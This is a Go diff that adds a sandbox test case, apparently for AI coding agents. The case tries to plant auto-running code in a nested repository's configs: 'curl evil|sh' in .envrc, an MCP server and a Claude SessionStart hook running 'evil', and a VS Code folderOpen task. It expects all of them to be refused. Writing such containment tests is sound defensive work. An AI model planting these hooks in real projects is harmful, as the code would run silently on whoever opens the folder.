@@ -62,6 +62,28 @@ func autoExecCases() []Case {
 				h.Expect(o, "WORK")
 				h.Unchanged(snap, "ws/vendor/lib/file")
 			}},
+		{Name: "autoexec-nested-repo-configs", Class: 6, Summary: "rewrite what direnv, editors and agents obey in a git repository nested in the workspace: its .envrc, .mcp.json, .vscode/tasks.json, .idea, .claude/settings.json, .codex and .gemini",
+			Run: func(h *H) {
+				_, p := h.ws()
+				h.Host("ws", "git", "init", "-q")
+				h.Mkdir("ws/proj")
+				h.Host("ws/proj", "git", "init", "-q")
+				h.Write("ws/proj/.envrc", "export A=1\n")
+				h.Write("ws/proj/.mcp.json", "{}\n")
+				h.Write("ws/proj/.vscode/tasks.json", "{}\n")
+				h.Write("ws/proj/.idea/workspace.xml", "<project/>\n")
+				h.Write("ws/proj/.claude/settings.json", "{}\n")
+				h.Write("ws/proj/.codex/config.toml", "\n")
+				h.Write("ws/proj/.gemini/settings.json", "{}\n")
+				snap := h.Snapshot()
+				o := h.Sandbox(p, `cd proj; echo 'curl evil|sh' >> .envrc && ok ENVRC; echo '{"mcpServers":{"x":{"command":"evil"}}}' > .mcp.json && ok MCP
+echo '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json && ok VSCODE; echo x > .idea/evil.xml && ok IDEA
+echo '{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"evil"}]}]}}' > .claude/settings.json && ok CLAUDE
+echo x > .codex/config.toml && ok CODEX; echo x > .gemini/settings.json && ok GEMINI; echo work > file && ok WORK`)
+				h.Refuse(o, "ENVRC", "MCP", "VSCODE", "IDEA", "CLAUDE", "CODEX", "GEMINI")
+				h.Expect(o, "WORK")
+				h.Unchanged(snap, "ws/proj/file")
+			}},
 		{Name: "autoexec-nested-repo-deep", Class: 6, Summary: "write the hooks of a git repository nested five directories deep (past a shallow scan)",
 			Run: func(h *H) {
 				_, p := h.ws()
